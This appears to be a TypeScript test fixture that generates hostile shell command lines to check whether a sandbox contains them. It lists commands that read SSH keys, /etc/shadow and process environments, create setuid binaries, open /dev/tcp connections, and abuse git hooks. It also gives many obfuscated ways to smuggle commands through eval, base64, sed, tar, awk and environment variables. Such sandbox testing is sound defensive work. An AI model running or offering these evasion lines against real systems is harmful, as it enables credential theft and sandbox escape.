// Command lines that try to change or reach something outside, in every disguise that is known to us.
import type { CanaryPlace, Listeners } from './canary-place.ts';

/** Targets of the lines. All of them are made for the test: a line that works harms nothing else. */
export interface Targets {
  readonly out: string;
  readonly cwd: string;
  readonly port: number;
  readonly token: string;
  readonly victim: number;
}

export function targetsOf({ out, cwd, token, victim }: CanaryPlace, { port }: Listeners): Targets {
  return { out, cwd, port, token, victim: victim.pid ?? 0 };
}

type Make = (targets: Targets) => string;
type Carry = (payload: string, targets: Targets) => string;

/** Simple commands with an effect outside, without quotes: usable inside every other line. */
const PAYLOADS: readonly Make[] = [
  ({ out }) => `touch ${out}/pwned`,
  ({ out }) => `cp src/a.txt ${out}/target`,
  ({ out }) => `rm -f ${out}/target`,
  ({ out }) => `chmod 777 ${out}/target`,
  ({ out }) => `mv ${out}/target ${out}/moved`,
  ({ out }) => `truncate -s 0 ${out}/target`,
  ({ out }) => `mkdir ${out}/made`,
  ({ out }) => `ln -sf /etc/hostname ${out}/target`,
  ({ out }) => `touch -d 2001-01-01 ${out}/target`,
  ({ out }) => `tee ${out}/target`,
  ({ out }) => `dd if=src/a.txt of=${out}/target`,
  ({ out }) => `cat ${out}/secret`,
  ({ out }) => `git init -q ${out}/repo`,
  () => 'touch ../out/pwned',
  () => 'cat ../out/home/.ssh/id_rsa',
  () => 'install -m 4755 /bin/true s',
  () => 'cp /bin/true s4; chmod 6755 s4',
  ({ port }) => `curl -s -m 1 http://127.0.0.1:${port}/`,
  ({ token }) => `setsid sleep ${token}`,
  ({ token }) => `nohup sleep ${token}`,
  ({ victim }) => `kill -9 ${victim}`,
  ({ victim }) => `cat /proc/${victim}/environ`,
  ({ token }) => `touch /dev/shm/troupe-canary-${token}`,
  ({ token }) => `touch /tmp/troupe-canary-${token}`,
  () => 'chmod 777 /dev/full /proc/uptime',
];

const quoted = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const doubled = (text: string): string => `"${text}"`;
const words = (text: string): string => text.split(';')[0] ?? text;

/** Ways to make a shell, or a program that a shell starts, run a command. */
const CARRIERS: readonly Carry[] = [
  (p) => p,
  (p) => `ls; ${p}`,
  (p) => `ls && ${p}`,
  (p) => `ls & ${p}`,
  (p) => `ls\n${p}`,
  (p) => `ls | ${words(p)}`,
  (p) => `false || ${p}`,
  (p) => `( ${p} )`,
  (p) => `{ ${p}; }`,
  (p) => `! ${words(p)}`,
  (p) => `time ${words(p)}`,
  (p) => `if true; then ${p}; fi`,
  (p) => `while ${p}; do break; done`,
  (p) => `for i in 1; do ${p}; done`,
  (p) => `case x in *) ${p};; esac`,
  (p) => `f() { ${p}; }; f`,
  (p) => `echo() { ${p}; }; echo hi`,
  (p) => `ls() { ${p}; }; ls`,
  (p) => `alias ls=${quoted(p)}\nls`,
  (p) => `trap ${quoted(p)} EXIT`,
  (p) => `coproc ${words(p)}; wait`,
  (p) => `echo "$( ${p} )"`,
  (p) => 'echo `' + p + '`',
  (p) => `: \${x:=$( ${p} )}`,
  (p) => `cat <( ${p} )`,
  (p) => `cat < <( ${p} )`,
  (p) => `cat <<E\n$( ${p} )\nE`,
  (p) => `[[ -n $( ${p} ) ]]`,
  (p) => `echo $(( $( ${p} )0 ))`,
  (p) => `x[$( ${p} )0]=1`,
  (p) => `sh -c ${quoted(p)}`,
  (p) => `bash -c -- ${quoted(p)}`,
  (p) => `bash -c -x ${quoted(p)}`,
  (p) => `bash --norc -ec ${quoted(p)}`,
  (p) => `eval ${quoted(p)}`,
  (p) => `eval -- ${quoted(p)}`,
  (p) => `builtin eval ${quoted(p)}`,
  (p) => `command ${words(p)}`,
  (p) => `exec ${words(p)}`,
  (p) => `printf %s ${quoted(p)} | sh`,
  (p) => `base64 -d <<< ${Buffer.from(p).toString('base64')} | bash`,
  (p) => `source <(echo ${quoted(p)})`,
  (p) => `. /dev/stdin <<< ${quoted(p)}`,
  (p) => `x=${quoted(`1 ${words(p)}`)}; env a=$x ls`,
  (p) => 'env a=`echo 1 ' + words(p) + '` ls',
  (p) => `env -S ${quoted(words(p))}`,
  (p) => `env - PATH=/usr/bin:/bin ${words(p)}`,
  (p) => `nice ${words(p)}`,
  (p) => `timeout 2 ${words(p)}`,
  (p) => `stdbuf -o0 ${words(p)}`,
  (p) => `nohup ${words(p)}`,
  (p) => `setsid -w ${words(p)}`,
  (p) => `xargs -I{} ${words(p)} < src/a.txt`,
  (p) => `echo a | xargs sh -c ${quoted(p)}`,
  (p) => `find src -name a.txt -exec ${words(p)} \\;`,
  (p) => `find src -name a.txt -ok sh -c ${quoted(p)} \\; < /dev/null`,
  (p) => `find src -maxdepth 0 -execdir sh -c ${quoted(p)} \\;`,
  (p) => `sed -- ${quoted(`1e ${words(p)}`)} src/a.txt -e p`,
  (p) => `sed ${quoted(`1e ${words(p)}`)} -ie s/a/b/ src/a.txt`,
  (p) => `sed -n ${quoted(`s/.*/${words(p).replaceAll('/', '\\/')}/e`)} src/a.txt`,
  (p) => `awk ${quoted(`BEGIN { system("${p}") }`)}`,
  (p) => `awk ${quoted(`BEGIN { "${p}" | getline }`)}`,
  (p) => `awk ${quoted(`BEGIN { print "" | "${p}" }`)}`,
  (p) => `python3 -c ${quoted(`import os; os.system("${p}")`)}`,
  (p) => `perl -e ${quoted(`system("${p}")`)}`,
  (p) => `perl -ne ${quoted(`\`${p}\``)} src/a.txt`,
  (p) => `make -f - <<< ${quoted(`all:; ${p}`)}`,
  (p) => `tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec=${quoted(p)} src`,
  (p) => `tar -cf /dev/null -I ${quoted(`sh -c "${p}"`)} src`,
  (p) => `split --filter=${quoted(p)} src/a.txt`,
  (p) => `sort --compress-program=${quoted(`sh -c "${p}"`)} -S1 src/a.txt`,
  (p) => `LESSOPEN=${quoted(`|${p}`)} less src/a.txt`,
  (p) => `git -c core.fsmonitor=${quoted(p)} status`,
  (p) => `git -c alias.x=${quoted(`!${p}`)} x`,
  (p) => `git -c core.pager=${quoted(p)} -p log`,
  (p) => `git ls-remote --upload-pack=${quoted(p)} .`,
  (p) => `git fetch --upload-pack=${quoted(p)} . x`,
  (p) => `git push --receive-pack=${quoted(p)} . x`,
  (p) => `git grep -O${quoted(`sh -c "${p}"`)} hello`,
  (p) => `GIT_SSH_COMMAND=${quoted(p)} git ls-remote ssh://x/y`,
  (p) => `GIT_EXTERNAL_DIFF=${quoted(p)} git diff --no-index src/a.txt package.json`,
  (p) => `PAGER=${quoted(p)} git --paginate help`,
  (p) => `BASH_ENV=<(echo ${quoted(p)}) bash -c true`,
  (p) => `PROMPT_COMMAND=${quoted(p)} bash -i < /dev/null`,
  (p) => `mapfile -C ${quoted(`${p} #`)} -c 1 < src/a.txt`,
  (p) => `${'ls;'.repeat(60)}${p}`,
  (p) => `vi -es -c ${quoted(`!${p}`)} -c q`,
  (p) => `ed -s src/a.txt <<< ${quoted(`!${p}`)}`,
  (p) => `script -qc ${quoted(p)} /dev/null`,
  (p) => `setpriv --no-new-privs ${words(p)}`,
  (p) => `unshare -Ur sh -c ${quoted(p)}`,
  (p) => `unshare -m sh -c ${doubled(`mount -o remount,rw / ; ${p}`)}`,
  (p) => `nsenter -t 1 -m ${words(p)}`,
  (p) => `sudo -n ${words(p)}`,
  (p) => `node -e ${quoted(`require("child_process").execSync("${p}")`)}`,
];

/** Ways to write the same words. */
const SPELLINGS: readonly ((line: string) => string)[] = [
  (line) => line,
  (line) =>
    line.replace(
      /\b(touch|cp|rm|chmod|mv|cat|curl|kill|tee|git)\b/,
      (name) => `${name[0]}''${name.slice(1)}`,
    ),
  (line) => line.replace(/\b(touch|cp|rm|chmod|mv|cat|curl|kill|tee|git)\b/, (name) => `\\${name}`),
  (line) => line.replace(' ', '${IFS}'),
  (line) => line.replace(' ', ' \\\n'),
  (line) => `LANG=C ${line}`,
  (line) => ` # a comment\n${line} # another`,
  (line) => `cd src && cd .. && ${line}`,
  (line) => `set +e; ${line}; true`,
  (line) =>
    line.replace(
      /\b(touch|cp|rm|cat)\b/,
      (name) => `$'\\x${name.charCodeAt(0).toString(16)}${name.slice(1)}'`,
    ),
];

/** Complete lines with an effect outside. */
const WHOLE: readonly Make[] = [
  ({ out }) => `sed --in-place='${out}/*' p src/a.txt`,
  ({ out }) => `sed -n 'w ${out}/target' src/a.txt`,
  ({ out }) => `sed 's/h/j/w ${out}/target' src/a.txt`,
  () => 'cd vendor/lib && git status',
  () => 'cd vendor/lib; git log; git diff; git ls-files',
  () => 'git -C vendor/lib status',
  () => 'awk s* src/a.txt',
  () => 'sed s,x*,b,g src/a.txt',
  ({ out }) => `uniq src/a.txt ${out}/target`,
  () => 'cd src && uniq a.tx? ../../out/target',
  ({ out }) => `printf 'abc%n' ${out}/target; ls`,
  ({ out }) => `find ${out} -delete`,
  ({ out }) => `find -L ${out} -type f -delete`,
  ({ out }) => `find src -fprintf ${out}/target x`,
  ({ out }) => `find src -fls ${out}/target`,
  ({ out }) => `chmod -R -x ${out}`,
  ({ out }) => `chmod --reference=src ${out}/target`,
  ({ out }) => `mv -t ${out} src/a.txt`,
  ({ out }) => `cp -t ${out} src/a.txt`,
  ({ out }) => `cd ${out} && cat secret`,
  ({ out }) => `cd ${out}/home && cat .ssh/id_rsa`,
  ({ victim }) => `cd /proc/${victim} && cat environ`,
  () => 'cd /etc && cat shadow',
  ({ port }) => `awk 1 /inet/tcp/0/127.0.0.1/${port}`,
  ({ port }) => `echo x > /dev/tcp/127.0.0.1/${port}`,
  ({ port }) => `exec 3<>/dev/tcp/127.0.0.1/${port}; echo x >&3`,
  ({ port }) => `bash -c 'cat < /dev/tcp/127.0.0.1/${port}'`,
  ({ port }) => `git clone http://127.0.0.1:${port}/x y`,
  ({ port }) => `python3 -c 'import urllib.request as u; u.urlopen("http://127.0.0.1:${port}")'`,
  ({ out }) => `python3 -c 'import socket as s; c = s.socket(s.AF_UNIX); c.connect("${out}/socket")'`,
  ({ out }) => `sort -o ${out}/target src/a.txt`,
  ({ out }) => `tee ${out}/target < src/a.txt`,
  ({ out }) => `echo x > ${out}/target`,
  ({ out }) => `echo x >> ${out}/target`,
  ({ out }) => `echo x >| ${out}/target`,
  ({ out }) => `echo x >& ${out}/target`,
  ({ out }) => `ls &> ${out}/target`,
  ({ out }) => `: > ${out}/target`,
  ({ out }) => `exec 3>${out}/target; echo x >&3`,
  ({ out }) => `ln -s ${out}/target l1; echo x > l1`,
  ({ out }) => `ln -s ${out} l2; touch l2/pwned`,
  ({ out }) => `ln ${out}/target l3; echo x > l3`,
  ({ out }) => `mkdir -p d; cd d; ln -s ${out} e; cd e; touch pwned`,
  () => 'echo x > link',
  () => 'cat link',
  () => 'head -n5 link',
  () => 'cat way/secret',
  () => 'ls way',
  () => 'cat src/../../out/secret',
  () => 'cat ../out/secret',
  () => 'tail -c99 ../out/secret',
  () => 'wc -l ../out/secret',
  ({ out }) => `cat ${out}/secret`,
  ({ cwd }) => `cat ${cwd}/../out/secret`,
  () => 'ls -R ..',
  () => 'cat /proc/self/root/etc/shadow',
  () => 'cat /proc/1/environ',
  () => 'cat /proc/self/environ',
  () => 'env',
  () => 'set',
  () => 'export -p',
  ({ out }) => `git archive -o ${out}/target HEAD`,
  ({ out }) => `git -C ${out} init`,
  ({ out }) => `git diff --output=${out}/target`,
  ({ out }) => `git log --output=${out}/target`,
  ({ out }) => `git --git-dir=${out} init`,
  ({ out }) => `GIT_DIR=${out}/g git init`,
  ({ out }) => `GIT_TRACE=${out}/target git status`,
  ({ out }) => `tar -cf ${out}/target src`,
  ({ out }) => `tar -C ${out} -xf <(tar -c src)`,
  ({ out }) => `rsync -a src/ ${out}/`,
  ({ out }) => `install src/a.txt ${out}/target`,
  ({ out }) => `xxd src/a.txt ${out}/target`,
  ({ out }) => `date -r src/a.txt > ${out}/target`,
  ({ out }) => `diff src/a.txt package.json > ${out}/target`,
  ({ out }) => `file -C -m src/a.txt; cat ${out}/secret`,
  () => 'mknod dev c 1 3; mkfifo s5; chmod u+s s5',
  () => 'umask 0; python3 -c "import os; os.open(chr(115), 65, 0o4755)"',
  () => 'mount -t tmpfs none src',
  () => 'echo x > /proc/sys/kernel/core_pattern.none',
  () => 'echo hi > .git/hooks/post-checkout',
  () => 'git config core.hooksPath /tmp',
];

/** Harmless lines, which show that lines run at all. */
export const HARMLESS: readonly string[] = [
  'ls',
  'pwd',
  'cat src/a.txt',
  'ls -la src',
  'head -n1 package.json',
  'wc -l src/a.txt',
];

/** Lines whose effect shows wherever no limits hold. */
export function controlLines(targets: Targets): readonly string[] {
  const lines = PAYLOADS.map((make) => make(targets)).filter((line) => !line.includes('/dev/full'));
  return lines.map((line) => (line.includes('sleep') ? `${line} > /dev/null 2>&1 &` : line));
}

/** All lines, without repetition: whole ones first, then compositions in an order that mixes the parts. */
export function hostileLines(targets: Targets, count: number): readonly string[] {
  const lines = new Set<string>(WHOLE.map((make) => make(targets)));
  for (const spell of SPELLINGS.slice(1)) for (const make of WHOLE) lines.add(spell(make(targets)));
  let state = 1;
  const pick = <T>(from: readonly T[]): T => {
    state = (state * 48_271) % 2_147_483_647;
    return from[state % from.length] as T;
  };
  const whole = [...lines];
  const composed = new Set<string>();
  for (const carry of CARRIERS)
    for (const make of PAYLOADS.slice(0, 3)) composed.add(carry(make(targets), targets));
  for (let tries = 0; composed.size < count * 2 && tries < count * 40; tries++) {
    const line = pick(CARRIERS)(pick(PAYLOADS)(targets), targets);
    composed.add(pick(SPELLINGS)(tries % 5 === 0 ? pick(CARRIERS)(line, targets) : line));
  }
  // Half of the lines are whole ones, while there are any.
  const mixed = [...composed].flatMap((line, i) => (whole[i] === undefined ? [line] : [whole[i], line]));
  return [...new Set(mixed)].slice(0, count);
}
